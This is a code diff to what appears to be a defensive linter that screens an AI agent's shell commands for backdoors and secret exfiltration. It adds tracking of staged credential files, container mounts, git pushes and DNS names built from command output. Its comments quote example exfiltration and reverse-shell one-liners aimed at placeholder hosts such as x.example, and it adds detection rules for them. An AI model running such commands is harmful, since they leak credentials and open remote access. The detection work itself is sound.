@@ -20,9 +20,17 @@ analysis walks the tree like a very small abstract interpreter:
   guard off are in tampering.py;
 - ``python -c``/``node -e``/``perl -e``/``ruby -e`` bodies are returned as inline code (and get a
   quick libcst-free screen, inline.py), files written by ``cat > f <<EOF``, ``tee f``,
-  ``printf ... > f`` are returned as writes so callers can run the file checkers on them.
+  ``printf ... > f`` are returned as writes so callers can run the file checkers on them;
+- staging (staging.py): a file written with secrets, or copied/archived from a credential file,
+  holds them, and uploading it later counts as uploading them; files known from earlier calls of
+  the agent session come in as ``known`` and the new ones go out in ``ShellAnalysis.staged``;
+- scripts and Makefiles the command wrote and then runs (``bash f``, ``make -f f``) are analysed
+  as what they are; ``git remote add``/``git push`` of a dump (scripts.py); ``docker run`` with
+  credential mounts (containers.py); ``${X:-curl}`` defaults, arrays, ``IFS`` splitting and
+  ``>(cmd)`` targets (words.py); loops and ``read`` carry the taint of what they iterate over.
 
-Findings: BDL402 (environment, credential files or secrets to the network), BDL404 (secrets in DNS
+Findings: BDL402 (environment, credential files or secrets to the network, credential files
+published or mounted into a networked container), BDL404 (secrets or command output in DNS
 names), BDL405 (download and execute, reverse shells, encoded payloads executed), BDL803 (guard
 configuration deleted or edited blindly) and BDL804 (commit hooks bypassed).
 
@@ -31,10 +39,14 @@ Entry point: :func:`analyse` -> :class:`ShellAnalysis`. Pure: no file system acc
 from __future__ import annotations
 
 import re
+from dataclasses import dataclass, field
 
+from backdoor_lint.checkers.shell.containers import ContainerRunner
 from backdoor_lint.checkers.shell.decoding import decode_stream, echo_stream, text_of
 from backdoor_lint.checkers.shell.inline import screen_inline
-from backdoor_lint.checkers.shell.network import run_network
+from backdoor_lint.checkers.shell.network import run_network, run_publisher
+from backdoor_lint.checkers.shell.scripts import ScriptRunner
+from backdoor_lint.checkers.shell.staging import StagedFiles, copy_destination, normalise
 from backdoor_lint.checkers.shell.tampering import check_bypass_env, check_file_tampering, check_git
 from backdoor_lint.checkers.shell.values import (
     EMPTY,
@@ -44,6 +56,7 @@ from backdoor_lint.checkers.shell.values import (
     UNKNOWN,
     FileWrite,
     InlineCode,
+    Known,
     NetworkUse,
     ShellAnalysis,
     Stream,
@@ -51,26 +64,31 @@ from backdoor_lint.checkers.shell.values import (
     joined,
 )
 from backdoor_lint.checkers.shell.wordlists import (
+    CONTAINER_RUNNERS,
     DNS_TOOLS,
     ENV_DUMPERS,
-    ENV_FILES,
     FILE_TAMPERERS,
     HARMLESS_PATH_READERS,
     INLINE_FLAGS,
     INTERPRETERS,
     NETWORK,
+    PUBLISHERS,
     RAW_SOCKET_CLIENTS,
     SHELLS,
     STDIN_FILTERS,
     basename,
-    cred_path,
     is_git_hook_path,
     is_secret_name,
 )
 from backdoor_lint.checkers.shell.words import WordResolver, parse
 from backdoor_lint.checkers.shell.wrappers import WrapperUnwrapper
 
-MAX_SPLITS = 64  # commands the grammar runs past a newline, split off per analysed text
+MAX_SPLITS = 64
+# a name with a label computed by a command: `$(whoami).x.example`, `$(id | base64).$(hostname).x.example`
+# (the text of a non-exact word keeps `$(...)` as written: a closing `)` or backquote followed by
+# `.label` is a name part computed by a command; each `)` starts a run the pattern reads once)
+_COMPUTED_LABEL = re.compile(r"[)`][\w-]*\.[\w-]*[A-Za-z]")
+MAKEFILES = ("GNUmakefile", "makefile", "Makefile")  # commands the grammar runs past a newline, split off per analysed text
 
 
 def _misparsed_newline(root, source: bytes) -> int | None:
@@ -97,13 +115,28 @@ def _misparsed_newline(root, source: bytes) -> int | None:
     return found
 
 
-class _Analyser(WordResolver, WrapperUnwrapper):
+@dataclass
+class _Shared:
+    """State of one analysed command line that nested shells share with it."""
+
+    staged: StagedFiles
+    cwd: str | None = None
+    downloaded: set[str] = field(default_factory=set)  # files the command downloads
+    remotes: dict[str, str] = field(default_factory=dict)  # git remotes added (this line and the session)
+    written: dict[str, str] = field(default_factory=dict)  # normalised path -> content the command writes
+    pending: dict[str, object] = field(default_factory=dict)  # `>(cmd)` placeholder -> its node
+
+
+class _Analyser(WordResolver, WrapperUnwrapper, ContainerRunner, ScriptRunner):
     def __init__(self, result: ShellAnalysis, depth: int = 0, variables: dict | None = None,
-                 downloaded: set | None = None) -> None:
+                 shared: _Shared | None = None, arrays: dict | None = None) -> None:
         self.result = result
         self.depth = depth
         self.vars: dict[str, Word] = variables if variables is not None else {}
-        self.downloaded: set[str] = downloaded if downloaded is not None else set()
+        self.arrays: dict[str, list[Word]] = arrays if arrays is not None else {}
+        self.shared = shared or _Shared(StagedFiles())
+        self.downloaded = self.shared.downloaded
+        self.staged = self.shared.staged
         self.source = b""
         self.line_offset = 0  # lines of the analysed text before the part being parsed
 
@@ -138,7 +171,7 @@ class _Analyser(WordResolver, WrapperUnwrapper):
         return self.exec_node(tree.root_node, EMPTY)
 
     def child(self) -> _Analyser:
-        return _Analyser(self.result, self.depth + 1, dict(self.vars), self.downloaded)
+        return _Analyser(self.result, self.depth + 1, dict(self.vars), self.shared, dict(self.arrays))
 
     def recurse(self, code: str) -> Stream:
         return self.child().run(code)
@@ -175,6 +208,8 @@ class _Analyser(WordResolver, WrapperUnwrapper):
             return EMPTY
         if kind == "declaration_command":
             return self.exec_declaration(node)
+        if kind == "for_statement":
+            return self.exec_for(node, stdin)
         if kind in ("command_substitution", "process_substitution"):
             return self.exec_block(node, stdin)
         # program, list, compound_statement, subshell, if/while/for/case, function_definition,
@@ -191,6 +226,25 @@ class _Analyser(WordResolver, WrapperUnwrapper):
                 continue
             out = self.exec_node(part, stdin)
         return out
+
+    def exec_for(self, node, stdin: Stream) -> Stream:
+        """`for x in a b; do ...; done`: the body once per known value (up to 8), else once with a
+        value carrying the taint of the whole list (`for l in $(env | base64)`)."""
+        variable = node.child_by_field_name("variable")
+        values = [w for v in node.children_by_field_name("value") for w in self.resolve_args(v)]
+        body = node.child_by_field_name("body")
+        if variable is None or body is None:
+            return self.exec_block(node, stdin)
+        name = variable.text.decode("utf-8", "replace")
+        if values and len(values) <= 8 and all(v.exact for v in values):
+            out = EMPTY
+            for value in values:
+                self.vars[name] = value
+                out = self.exec_block(body, stdin)
+            return out
+        tags = frozenset().union(*[v.tags for v in values]) if values else frozenset()
+        self.vars[name] = Word(f"${name}", tags, False, next((v.what for v in values if v.what), ""))
+        return self.exec_block(body, stdin)
 
     def check_socket_pipeline(self, node) -> None:
         """`cat f | sh -i | nc host port > f`: a shell wired into a network connection."""
@@ -228,7 +282,11 @@ class _Analyser(WordResolver, WrapperUnwrapper):
         if name_node is None:
             return None
         name = name_node.text.decode("utf-8", "replace")
-        value = self.resolve(value_node) if value_node is not None else Word("")
+        if value_node is not None and value_node.type == "array":  # cmd=(curl -d @f url)
+            self.arrays[name] = [w for part in value_node.named_children for w in self.resolve_args(part)]
+            value = self.arrays[name][0] if self.arrays[name] else Word("")
+        else:
+            value = self.resolve(value_node) if value_node is not None else Word("")
         self.vars[name] = value
         return value
 
@@ -314,11 +372,8 @@ class _Analyser(WordResolver, WrapperUnwrapper):
                                 "reverse shells connect a shell's input and output to a remote listener",
                                 self.snippet(red.parent))
             if op in ("<", "<>") and fd in (None, "0"):
-                path = cred_path(target)
-                tags = frozenset({"cred"}) if path else frozenset()
-                if ENV_FILES.search(target):
-                    tags = frozenset({"env"})
-                new_stdin = Stream(None, tags | word.tags, target if tags else "")
+                tags = self.staged.tags(target)
+                new_stdin = Stream(None, tags | word.tags, (self.staged.held(target) or target) if tags else "")
         if body is None:
             return EMPTY
         out = self.exec_node(body, new_stdin if new_stdin is not None else stdin)
@@ -343,8 +398,8 @@ class _Analyser(WordResolver, WrapperUnwrapper):
                 assigns.append((name, self.resolve(value_node) if value_node is not None else Word("")))
             elif part.type in ("file_redirect", "heredoc_redirect", "herestring_redirect"):
                 redirects.append(part)
-            elif part.type == "command_name":
-                argv.append(self.resolve(part.named_children[0] if part.named_children else part))
+            elif part.type == "command_name":  # `$c` with a changed IFS, `"${cmd[@]}"`: several words
+                argv.extend(self.resolve_args(part.named_children[0]) if part.named_children else [self.resolve(part)])
             elif part.type == "comment":
                 continue
             else:
@@ -358,8 +413,8 @@ class _Analyser(WordResolver, WrapperUnwrapper):
                     self.record_socket(word.text)
                     self.result.add("BDL405", f"raw network socket `{word.text}` used as a redirection: this is "
                                     "how reverse shells connect a shell to a remote listener", self.snippet(node))
-                if op == "<" and cred_path(word.text):
-                    stdin = Stream(None, frozenset({"cred"}), word.text)
+                if op == "<" and self.staged.tags(word.text):
+                    stdin = Stream(None, self.staged.tags(word.text), self.staged.held(word.text) or word.text)
         if not argv:
             for name, value in assigns:
                 self.vars[name] = value
@@ -398,7 +453,11 @@ class _Analyser(WordResolver, WrapperUnwrapper):
         if language:
             return self.run_interpreter(name, language, argv, stdin, node)
         if name in NETWORK:
-            return run_network(self.result, self.downloaded, name, args, stdin, self.snippet(node))
+            return run_network(self.result, self.downloaded, name, args, stdin, self.snippet(node), self.staged.held)
+        if name in PUBLISHERS:
+            return run_publisher(self.result, name, args, self.snippet(node), self.staged.held)
+        if name in CONTAINER_RUNNERS:
+            return self.run_container(name, args, node)
         if name in DNS_TOOLS:
             return self.run_dns_tool(name, args, node)
         if name == "crontab" and (not args or args[-1].text == "-") and stdin.data is not None:
@@ -411,6 +470,12 @@ class _Analyser(WordResolver, WrapperUnwrapper):
             self.result.add("BDL404", f"puts secret data ({tainted[0].what or tainted[0].text}) into a name "
                             f"resolved with {name}: DNS exfiltration leaves through every firewall that allows "
                             "DNS", self.snippet(node))
+        computed = next((a for a in args if not a.exact and ("$(" in a.text or "`" in a.text) and
+                         _COMPUTED_LABEL.search(a.text)), None)
+        if computed is not None and not tainted:
+            self.result.add("BDL404", f"puts the output of a command into a name resolved with {name} "
+                            f"(`{computed.text[:80]}`): each lookup carries that data to the name server of the "
+                            "domain, through every firewall that allows DNS", self.snippet(node))
         return UNKNOWN
 
     def run_crontab(self, stdin: Stream) -> Stream:
@@ -432,7 +497,18 @@ class _Analyser(WordResolver, WrapperUnwrapper):
                             "reverse shell", snippet)
         if name == "git":
             check_git(self.result, args, snippet)
+            self.run_git_remote(args, snippet)
             return UNKNOWN
+        if name in ("read", "mapfile", "readarray"):  # `env | while read l; do dig $l.x.example; done`
+            for a in args:
+                if re.fullmatch(r"[A-Za-z_]\w*", a.text):
+                    self.vars[a.text] = Word(f"${a.text}", stdin.tags, False, stdin.what)
+            return EMPTY
+        if name in ("make", "gmake"):
+            return self.run_make(args, node)
+        copied = copy_destination(name, args)
+        if copied:
+            self.staged.copy(copied[0], copied[1], snippet)
         if name in ("pre-commit", "prek") and texts[:1] == ["uninstall"]:
             self.result.add("BDL804", "`pre-commit uninstall` removes the git hook that runs backdoor-lint, so "
                             "later commits are not screened", snippet)
@@ -478,23 +554,22 @@ class _Analyser(WordResolver, WrapperUnwrapper):
             return stdin
         tags, what = frozenset(), []
         for f in files:
-            if cred_path(f.text):
-                tags |= {"env"} if ENV_FILES.search(f.text) else {"cred"}
-                what.append(f.text)
+            if self.staged.tags(f.text):
+                tags |= self.staged.tags(f.text)
+                what.append(self.staged.held(f.text) or f.text)
             tags |= f.tags
         return Stream(None, tags, ", ".join(what))
 
-    @staticmethod
-    def reads_credentials(name: str, args: list[Word], stdin: Stream) -> Stream:
+    def reads_credentials(self, name: str, args: list[Word], stdin: Stream) -> Stream:
         """Any other command: its output carries the taint of the credential files it reads."""
         if name in HARMLESS_PATH_READERS:
             return Stream(None, frozenset(), "")
         tags = frozenset()
         found = []
         for a in args:
-            if cred_path(a.text):
-                tags |= {"env"} if ENV_FILES.search(a.text) else {"cred"}
-                found.append(a.text)
+            if self.staged.tags(a.text):
+                tags |= self.staged.tags(a.text)
+                found.append(self.staged.held(a.text) or a.text)
         what = ", ".join(found)
         tags |= frozenset(t for a in args for t in a.tags if t in ("env", "cred", "secret"))
         what = what or next((a.what for a in args if a.tags), "")
@@ -514,7 +589,8 @@ class _Analyser(WordResolver, WrapperUnwrapper):
             if "download" in target.tags or target.text in self.downloaded:
                 self.result.add("BDL405", f"sources code downloaded from the network ({target.what or target.text}) "
                                 "into the current shell: it runs whatever the server sends, unreviewed", snippet)
-            return UNKNOWN
+                return UNKNOWN
+            return self.run_script_file("shell", target.text)
         code = None
         script = None
         positional: list[Word] = []
@@ -544,7 +620,7 @@ class _Analyser(WordResolver, WrapperUnwrapper):
                                 f"with {name}: download-and-execute runs whatever the server sends, unreviewed",
                                 snippet)
             elif "/dev/stdin" not in script.text:
-                return UNKNOWN
+                return self.run_script_file("shell", script.text)
         return self.execute_stream(name, "bash", stdin, node)
 
     def run_interpreter(self, name: str, language: str, argv: list[Word], stdin: Stream, node) -> Stream:
@@ -642,24 +718,44 @@ class _Analyser(WordResolver, WrapperUnwrapper):
     # writes -----------------------------------------------------------------------------------
     def record_write(self, target: Word, content: Stream, append: bool, via: str) -> None:
         path = target.text
+        if path in self.shared.pending:  # `... > >(curl -T - url)`: the command reads what is written
+            self.exec_block(self.shared.pending.pop(path), content)
+            return
         if not path or path in ("-",) or path.startswith(("/dev/", "&")):
             return
         text = text_of(content.data)
+        secret = content.tags & {"env", "cred", "secret"}
+        if secret:
+            self.staged.add(path, content.what, "env" if "env" in secret else "cred" if "cred" in secret else "secret")
+        if basename(path) in ("authorized_keys", "authorized_keys2"):
+            self.result.add("BDL405", f"writes to {path}: every key listed there logs in to this account over SSH "
+                            "without a password, a backdoor that survives a password change. Add keys by hand, "
+                            "after checking whose they are", via)
+        key = normalise(path, self.shared.cwd)
+        before = (self.shared.written.get(key) or "") if append else ""
+        self.shared.written[key] = before + text if text is not None else None
         self.result.writes.append(FileWrite(path, text, append, via))
 
 
-def analyse(command: str) -> ShellAnalysis:
-    """Analyse one shell command line (or a whole script)."""
+def analyse(command: str, known: Known | None = None, cwd: str | None = None) -> ShellAnalysis:
+    """Analyse one shell command line (or a whole script). `known`: what earlier tool calls of the
+    same agent session left behind; `cwd`: the directory the command runs in, for file names."""
     result = ShellAnalysis()
-    _Analyser(result).run(command)
+    staged = StagedFiles(cwd, known.staged if known else None)
+    shared = _Shared(staged, cwd, remotes=dict(known.remotes) if known else {})
+    analyser = _Analyser(result, shared=shared)
+    analyser.run(command)
+    for placeholder in list(shared.pending):  # `>(cmd)` never written to: cmd still runs
+        analyser.exec_block(shared.pending.pop(placeholder), UNKNOWN)
+    result.staged = dict(staged.added)
     return result
 
 
-def analyse_script(text: str) -> ShellAnalysis:
+def analyse_script(text: str, known: Known | None = None, cwd: str | None = None) -> ShellAnalysis:
     """Analyse a shell script file's content (a shebang line is a comment). A construct the grammar
     cannot parse can make tree-sitter's error recovery swallow the statements around it, so a
     script with parse errors also has each paragraph (lines between blank lines) analysed alone."""
-    result = analyse(text)
+    result = analyse(text, known, cwd)
     if result.parse_errors:
         _add_paragraph_findings(text, result)
     return result
